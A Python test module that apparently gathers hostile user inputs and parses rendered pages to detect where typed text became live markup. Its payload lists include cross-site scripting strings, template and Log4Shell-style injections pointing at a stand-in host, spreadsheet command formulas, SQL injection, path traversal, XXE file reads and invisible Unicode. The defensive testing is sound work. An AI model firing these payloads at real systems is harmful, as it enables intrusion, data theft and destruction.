"""What a hostile or careless person types, and what a page may never hold because of it.

Families: scripts by tags, attributes and addresses; templates; formulas of spreadsheets; marks nobody sees;
SQL and RDF; broken markup. The ones that run call `alert`, which a browser reports as a dialog.
"""

import json
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>lien</a>",
    "<form action=javascript:alert(1)><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>ok</button>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</code></pre><img src=x onerror=alert(1)>",
    "</table><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<xss id=x tabindex=1 onfocus=alert(1)>",
)
ATTRIBUTES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1) `",
    "x onerror=alert(1)",
    "\"';--></style></script><svg/onload=alert(1)>",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "';alert(1);//",
    '";alert(1);//',
    "</script>",
    "-->",
    "]]>",
    "*/alert(1)/*",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://exemple.fr/%0aalert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https://exemple.fr@evil.example/",
    'https://exemple.fr/"onmouseover="alert(1)',
    "https://exemple.fr/<script>alert(1)</script>",
    "https://exemple.fr/> . <x:a> <x:b> <x:c",
    "https://exemple.fr/ espace",
    "https://[::1",
    "https://exemple.fr:99999/",
    "http://",
)
TEMPLATES = (
    "{{7*7}}",
    "{{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(9**9) %}x{% endfor %}",
    "{# commentaire #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d %n",
    "{0.__class__} {name!r}",
    "${jndi:ldap://evil.example/x}",
    "$(id) `id` ; id | id && id",
)
TABLES = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example";"lien")',
    "a;b;c\nd;e;f",
    'a","b","c',
    "\t=1+1",
)
UNSEEN = (
    "a\x00b",
    "\x00",
    "a\x07b\x1b[31mrouge",
    "a\x7fb",
    "a\u0085b\u2028c\u2029d",
    "\u202egnp.exe\u202c",
    "\u2066isolé\u2069",
    "\u200fdroite à gauche",
    "\ufeffmarque",
    "sans\u200bespace",
    "\ufffe\uffff",
    "\ue000",
    "e\u0301\u0301\u0301" * 30,
    "   ",
    "\u00a0\u2003\u3000",
    "\r\n\r\n",
    "🏳️‍🌈 ﷽ 𝕏",
)
LANGUAGES = (
    "' OR '1'='1",
    "'; DROP TABLE dataset; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(9)",
    "% _ \\ %%",
    '""" . <urn:x> <urn:y> <urn:z> . """',
    '"^^<javascript:alert(1)>',
    "> <urn:x> <urn:y> .",
    '{"@id": "javascript:alert(1)"}',
    "../../../etc/passwd",
    "..%2f..%2f",
    "a\r\nSet-Cookie: session=x",
    "AND OR NOT ( ) * ? ~ ^ : [ TO ]",
    "title:* OR *:*",
    "nan",
    "1e309",
    "-1",
    "999999999999999999999",
    "0x10",
    "٣",
    "2015-02-30",
    "null",
    "None",
)
PAYLOADS = (*TAGS, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *TABLES, *UNSEEN, *LANGUAGES)

_ELEMENTS = frozenset(
    {
        *("script", "style", "noscript", "base", "iframe", "frame", "object", "embed", "applet"),
        *("img", "svg", "animate", "math", "audio", "video", "source", "marquee", "x", "xss"),
    }
)
_ADDRESSED = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "poster", "background"})
_SCHEMES = frozenset({"", "http", "https", "mailto"})
# What layout.html itself has.
_OUR_ICON = "data:,"
# The scripts of ours that pages name; whatever they hold is not in the page.
_OUR_SCRIPTS = frozenset({"/static/dictionary.js", "/static/recipes.js"})
# The drawings of ours, by their classes: what stands in them is read as the rest of the page is.
_OUR_DRAWINGS = frozenset({"path-drawing", "graph"})
# The one block of data that the page of a dataset has, which no browser runs.
_OUR_DATA = {"type": "application/ld+json"}


@dataclass
class Hostile(HTMLParser):
    """Read a page as a browser would; `found` tells each place where what was typed became markup."""

    found: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    fields: dict[str, str] = field(default_factory=dict)
    # Fields where one chooses; nobody can type in them.
    lists: set[str] = field(default_factory=set)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._area: str | None = None
        self._select: str | None = None
        self._data: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what no page of ours has, and what the fields of its forms hold."""
        given = {name: value or "" for name, value in attrs}
        is_ours = tag == "script" and (given.get("src") in _OUR_SCRIPTS or self._begins_data(given))
        is_ours = is_ours or (tag == "svg" and given.get("class") in _OUR_DRAWINGS)
        if (tag in _ELEMENTS and not is_ours) or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.found.append(f"<{tag} {name}>")
            if name in _ADDRESSED and value != _OUR_ICON and not _is_safe(value):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in {"a", "link"}:
            self.links.append(given.get("href", ""))
        self._note_field(tag, given)

    def handle_endtag(self, tag: str) -> None:
        """End a text area, whose text is then whole."""
        if tag == "textarea" and self._area is not None:
            # The line break after the tag is no part of it.
            self.fields[self._area] = self.fields[self._area].replace("\r\n", "\n").removeprefix("\n")
            self._area = None
        elif tag == "select":
            self._select = None
        elif tag == "script" and self._data is not None and not _is_our_data(self._data):
            self.found.append(f"<script> {self._data}")

    def handle_data(self, data: str) -> None:
        """Keep what stands in a text area, or in the block of data."""
        if self._data is not None and self.cdata_elem == "script":
            self._data += data
        if self._area is not None:
            self.fields[self._area] += data

    def _begins_data(self, given: dict[str, str]) -> bool:
        """Tell whether this is the first block of data of the page: another one was typed."""
        begins = given == _OUR_DATA and self._data is None
        if begins:
            self._data = ""
        return begins

    def _note_field(self, tag: str, given: dict[str, str]) -> None:
        name = given.get("name", "")
        if tag == "textarea":
            self._area, self.fields[name] = name, ""
        elif tag == "input":
            self.fields[name] = given.get("value", "")
        elif tag == "select":
            self._select, self.fields[name] = name, ""
            self.lists.add(name)
        elif tag == "option" and self._select is not None and "selected" in given:
            self.fields[self._select] = given.get("value", "")


def read_page(text: str) -> Hostile:
    """Return what a page holds."""
    page = Hostile()
    page.feed(text)
    page.close()
    return page


def _is_our_data(data: str) -> bool:
    """Tell whether a block is one whole description of a dataset, without a sign of markup."""
    if set(data) & set("<>&"):
        return False
    try:
        return bool(json.loads(data)["@type"] == "Dataset")
    except (ValueError, KeyError, TypeError):
        return False


def _is_safe(address: str) -> bool:
    # Browsers drop what cannot be seen before they look at the scheme.
    seen = "".join(char for char in address if char.isprintable()).strip()
    try:
        return urlsplit(seen).scheme.lower() in _SCHEMES
    except ValueError:
        return True
